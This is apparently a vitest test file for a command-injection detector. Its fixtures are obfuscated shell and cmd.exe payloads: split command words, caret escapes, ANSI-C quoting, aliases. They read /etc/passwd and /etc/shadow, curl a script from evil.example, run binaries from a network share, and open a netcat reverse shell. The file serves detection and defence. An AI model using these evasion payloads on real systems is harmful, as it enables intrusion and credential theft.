// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
import { describe, expect, it } from 'vitest'
import { tokenizeShell } from '../../src/detect/cmd/shell.js'
import { detect } from '../../src/detect/index.js'
import { flagsAndLeaves } from './helpers.js'

/**
 * An unset variable in braces expands to nothing, so a word goes on right after it: `c${x}at` is
 * `cat`, `w${KK}hoami` is `whoami`. A long name standing alone is a word of its own (`${SHELL}`).
 * `${HOME:0:1}` is the first character of a path: a slash.
 */
describe('command injection: expansions that split a command word', () => {
  flagsAndLeaves(
    [
      ['w${x}hoami', 'cmd-shell-evasion'],
      ['c${KK}url http://evil.example/s.sh', 'cmd-shell-evasion'],
      ['p${abc_1}ing -c 3 127.0.0.1', 'cmd-shell-evasion'],
      [';c${x}at /etc/passwd', 'cmd-sensitive-file'],
      ['x; c${u}at /etc/hosts', 'cmd-sensitive-file'],
      ['| ${x}id', 'cmd-separator-command'],
      [';${xyz}whoami', 'cmd-separator-command'],
      ['look at this: w${KK}hoami lol', 'cmd-shell-evasion'],
      // the first character of a path variable is a slash
      [';cat ${PATH:0:1}etc${PATH:0:1}passwd', 'cmd-sensitive-file'],
      ['cat ${HOME:0:1}etc${HOME:0:1}shadow', 'cmd-sensitive-file'],
      // a long name alone is still the user's shell
      ['${SHELL} -c "id"', 'cmd-command-line'],
    ],
    [
      'use ${name} in the template',
      'we${x}ll done',
      'hello ca${x}t world',
      'the total is ${price}usd',
      'set `${HOME}/bin` first in your path',
      'use ${str:0:1} to get the first character',
    ],
    true,
  )
})

/** A bracket expression in a path glob names one character, as `?` does: `/b[i]n/c[a]t`. */
describe('command injection: bracket globs', () => {
  flagsAndLeaves(
    [
      [';/b[i]n/c[a]t /e[t]c/p[a]sswd', 'cmd-sensitive-file'],
      [';/bin/c[a]t notes.txt', 'cmd-shell-evasion'],
      [';/usr/[b]in/id', 'cmd-separator-command'],
      ['x | /usr/bin/[w]hoami', 'cmd-shell-evasion'],
    ],
    ['see /api/[version]/users for it', 'check /docs/[id]/page', 'the regex (/[a-z]*/) matches'],
    true,
  )
})

/**
 * cmd.exe's escape character: a caret between two letters or digits goes, the character after it
 * stays (`w^h^o^a^m^i` is `whoami`); `%COMSPEC%` is cmd.exe itself.
 */
describe('command injection: cmd.exe carets and %COMSPEC%', () => {
  flagsAndLeaves(
    [
      ['& w^h^o^a^m^i', 'cmd-shell-evasion'],
      ['x | w^hoami', 'cmd-shell-evasion'],
      ['& c^md /c whoami', 'cmd-shell-evasion'],
      ['; c^at /etc/passwd', 'cmd-sensitive-file'],
      ['& %COMSPEC% /c whoami', 'cmd-separator-command'],
      // (PowerShell's name for it)
      ['; $env:comspec /c whoami', 'cmd-separator-command'],
      ['& $env:ComSpec /c calc', 'cmd-separator-command'],
      // (and at a word's start: `^c^a^l^c` is `calc`)
      ['& ^c^a^l^c', 'cmd-separator-command'],
      ['& ^whoami', 'cmd-separator-command'],
      ['| ^n^e^t user', 'cmd-separator-command'],
      // a program by its Windows path and extension
      ['& c:\\windows\\system32\\calc.exe', 'cmd-separator-command'],
      ['& %SystemRoot%\\system32\\calc.exe', 'cmd-separator-command'],
      // (quoted, as a path with blanks must be)
      ['& "c:\\windows\\system32\\calc.exe"', 'cmd-separator-command'],
      ["& 'c:\\windows\\system32\\calc.exe'", 'cmd-separator-command'],
      ['| c:\\windows\\system32\\whoami.exe', 'cmd-separator-command'],
      // a program on a network share, whatever its name
      ['& \\\\evil.example\\share\\x.exe', 'cmd-separator-command'],
      ['& start \\\\evil.example\\share\\x.exe', 'cmd-separator-command'],
      ['& "\\\\evil.example\\share\\x.exe"', 'cmd-separator-command'],
      ['; \\\\evil.example@SSL\\DavWWWRoot\\x.bat', 'cmd-separator-command'],
      ['a | \\\\evil.example\\c$\\x.exe -p 4444', 'cmd-separator-command'],
    ],
    [
      'x; y = e^x + 2^10',
      'so 2^10 is 1024; nice',
      'a; x^2',
      'ok ^^ lol; sure',
      'the ^ key & the caret',
      '^this is great; agreed',
      '^_^ lol & more',
      // (no extension: no program of Windows, `ls` is none there)
      'C:\\Windows\\System32\\ls; ok',
      'Tom & c:\\windows\\readme.txt',
      'the path is in $env:comspec; ok',
      'the file is at \\\\server\\share\\x.exe; ok',
      '& \\\\server\\share\\readme.txt',
      '& \\\\server\\share\\setup.exe is the installer',
      '| \\\\nas\\setup.exe | the installer |',
    ],
    true,
  )
})

/** An empty substitution inside a word adds nothing to it (`c``at` is `cat`; `:` prints nothing). */
describe('command injection: an empty substitution in a word', () => {
  flagsAndLeaves(
    [
      [';c``at /etc/passwd', 'cmd-sensitive-file'],
      [';i$(:)d', 'cmd-shell-evasion'],
      [';i`:`d', 'cmd-shell-evasion'],
      [';c`:`at /etc/passwd', 'cmd-sensitive-file'],
      ['w$(:)hoami', 'cmd-shell-evasion'],
      ['c``at /etc/passwd', 'cmd-sensitive-file'],
      ['pi``ng 127.0.0.1', 'cmd-shell-evasion'],
      ['ping`` 127.0.0.1', 'cmd-command-line'],
      ['a; wh``oami', 'cmd-shell-evasion'],
    ],
    [
      'use ``code`` here',
      'a``b c',
      'in markdown ``x`` is code; fine',
      'type `:` then enter',
      'vim: use `:`q to quit; ok',
    ],
    true,
  )
})

/**
 * A variable the text assigns, expanded where a later word reads it: the command is assembled
 * from pieces that name nothing alone (`; x=id; $x`, `; a=wh;b=oami;$a$b`).
 */
describe('command injection: variables the text assigns', () => {
  flagsAndLeaves(
    [
      ['; x=id; $x', 'cmd-separator-command'],
      ['; x=id;${x}', 'cmd-separator-command'],
      ['; a=wh;b=oami;$a$b', 'cmd-separator-command'],
      ['x=wh; y=oami; $x$y', 'cmd-separator-command'],
      ["; x='id'; $x", 'cmd-separator-command'],
      ['| c=nc; $c -e /bin/sh 10.0.0.1 4444', 'cmd-separator-command'],
      ['&& p=/usr/bin/; ${p}id', 'cmd-separator-command'],
    ],
    [
      'a=b; $a',
      'price=5; $price is ok',
      'x=1; $y',
      'set x=5; then $x is five',
      'total=10; $total dollars',
      '?cmd=ls&x=1; $cmd',
    ],
    true,
  )
})

describe('command injection: variable expansion stays linear', () => {
  it('a text of references to a long value expands to a bounded text', () => {
    // each reference may put in at most 32 characters, and a text at most 1 024 in all
    const s = `a=${'x'.repeat(32)}; ${'$a'.repeat(30_000)}`
    expect(detect(s)).toEqual([])
    const words = tokenizeShell(s.toLowerCase())
    const longest = Math.max(...words.toks.slice(0, words.n).map((t) => t.v.length))
    expect(longest).toBeLessThanOrEqual(1024 + 32)
  })
})

/** An alias the text defines runs what it stands for where a command word goes. */
describe('command injection: aliases the text defines', () => {
  flagsAndLeaves(
    [
      ['alias a=c${KK}url&a google.com', 'cmd-separator-command'],
      ['alias a=curl; a e.vil', 'cmd-separator-command'],
      ['alias ll=whoami; ll', 'cmd-separator-command'],
      ['x; alias x=id && x', 'cmd-separator-command'],
    ],
    [
      'my alias is bob; bob says hi',
      'alias a=b & a thing',
      'alias g=git; g status',
      'the alias a=b; a is fine',
    ],
    true,
  )
})

/** `$0` and `$BASH` name the running shell where a word starts with them and a shell option follows. */
describe('command injection: the shell by its variable', () => {
  flagsAndLeaves(
    [
      ['; $0 -c id', 'cmd-separator-command'],
      ['; $BASH -c id', 'cmd-separator-command'],
      ['| ${0} -c whoami', 'cmd-separator-command'],
      ['; $0 -i', 'cmd-separator-command'],
      ['$0 -c id', 'cmd-command-line'],
    ],
    ['free; $0 each', 'it is $0 -cheap', 'total $0 - c', 'costs $0 -c', 'the $BASH variable -- see man bash'],
    true,
  )
})

/** bash's ANSI-C quoting, its escapes undone as bash does: `$'\151\144'` runs `id`. */
describe("command injection: ANSI-C quoting ($'…')", () => {
  flagsAndLeaves(
    [
      ["a; $'\\151\\144'", 'cmd-separator-command'],
      ["a; $'\\x69\\x64'", 'cmd-separator-command'],
      ["a; $'\\u0069d'", 'cmd-separator-command'],
      ["x|$'\\167\\150\\157\\141\\155\\151'", 'cmd-separator-command'],
      ["$'\\143\\141\\164' /etc/passwd", 'cmd-sensitive-file'],
    ],
    ["use $'\\n' for a newline", "print $'hello'", "a; $'\\151\\144", "it's $'5 or so"],
  )
})

/**
 * A slice of a variable glued to letters in a command word (`${0:0:1}h` is `sh` where `$0` is
 * sh), and cmd.exe's substring of one (`c%windir:~5,1%lc` is `calc`).
 */
describe('command injection: a slice of a variable in a command word', () => {
  flagsAndLeaves(
    [
      ['; ${0:0:1}h', 'cmd-shell-evasion'],
      ['a;${0:0:1}h -c id', 'cmd-shell-evasion'],
      ['a; w${0:1:1}oami', 'cmd-shell-evasion'],
      // cmd.exe's substring of a variable in a command word
      ['& %COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1% /c calc', 'cmd-shell-evasion'],
      ['& c%windir:~5,1%lc', 'cmd-shell-evasion'],
      ['| %comspec:~0,1%md /c whoami', 'cmd-shell-evasion'],
    ],
    [
      'use ${str:0:5} to cut',
      'run `${foo:0:3}`',
      'the ${0:0:1} slice',
      'use %PATH:~0,10% to see the start; ok',
      'echo %date:~-4% done',
    ],
  )
})

/**
 * Redirections before the command: a file descriptor glued to its `<` or `>` belongs to the
 * redirection (`2>/dev/null id` runs `id`), not the target of the one before it (`>0<y`); and the
 * running shell fed a here-string (`$0<<<id`).
 */
describe('command injection: a descriptor redirected first, the shell fed a here-string', () => {
  flagsAndLeaves(
    [
      [';2>/dev/null id', 'cmd-separator-command'],
      [';1>&2 id', 'cmd-separator-command'],
      [';2>&1 cat /etc/passwd', 'cmd-sensitive-file'],
      [';$0<<<id', 'cmd-separator-command'],
      ["; $0 <<< 'cat /etc/passwd'", 'cmd-separator-command'],
      ['|${0}<<<id', 'cmd-separator-command'],
    ],
    [
      'yes;2>/dev/null is where errors go',
      'so;2>&1 merges both',
      'it costs $0 <<< nothing',
      'only $0 each; 2 > 1 for sure',
    ],
    true,
  )

  it('reads a glued descriptor as part of its redirection, a target as a word', () => {
    const words = (s: string) => {
      const r = tokenizeShell(s)
      return r.toks.slice(0, r.n).map((t) => `${t.t}:${t.v}`)
    }
    expect(words(';2>/dev/null id')).toEqual(['sep:;', 'redir:>', 'w:/dev/null', 'w:id'])
    expect(words('a >0<y')).toEqual(['w:a', 'redir:>', 'w:0', 'redir:<', 'w:y'])
    expect(words('a 2 >x')).toEqual(['w:a', 'w:2', 'redir:>', 'w:x'])
  })
})

/** An unset variable's default (`${a:-id}`, `${a=id}`) is the word the shell puts in its place. */
describe('command injection: a default of an unset variable', () => {
  flagsAndLeaves(
    [
      [';${a:-id}', 'cmd-separator-command'],
      [';${a:=id}', 'cmd-separator-command'],
      [';${a-id}', 'cmd-separator-command'],
      ['; ${x:-cat} /etc/passwd', 'cmd-sensitive-file'],
      [';c${x:-a}t /etc/passwd', 'cmd-sensitive-file'],
      ['`${a:-id}`', 'cmd-substitution'],
    ],
    ['use ${NAME:-world} as the default', 'greet ${user:-guest}; bye', 'ok; ${HOME:-/root} is home'],
    true,
  )

  it('reads the default in the word', () => {
    const r = tokenizeShell(';c${x:-a}t /etc/passwd')
    expect(r.toks.slice(0, r.n).map((t) => t.v)).toEqual([';', 'cat', '/etc/passwd'])
  })
})
